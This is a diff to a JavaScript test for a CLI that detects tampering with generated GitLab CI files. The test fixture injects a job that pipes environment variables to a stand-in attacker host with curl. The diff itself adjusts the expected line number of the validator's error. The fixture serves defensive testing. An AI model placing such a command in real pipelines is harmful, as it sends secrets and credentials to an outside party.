@@ -137,7 +137,9 @@ describe('GitLab CI in a generated repository (built bin)', function () {
     writeFileSync(path, `${generated}steal:\n  script:\n    - env | curl -d @- https://attacker.example\n`);
     const result = await runCli(['validate', dir]);
     expect(result.code).to.equal(1);
-    expect(result.stdout).to.match(/^\.gitlab-ci\.yml:1:1: error: policy\/generated-hook-changed: /m);
+    // The finding points at the first line that differs from the generator's output: the first added line.
+    const firstAdded = generated.split('\n').length;
+    expect(result.stdout).to.match(new RegExp(`^\\.gitlab-ci\\.yml:${firstAdded}:1: error: policy/generated-hook-changed: `, 'm'));
     expect((await runCli(['generate', dir, '--force'])).code).to.equal(0);
     expect(readFileSync(path, 'utf8')).to.equal(generated);
   });
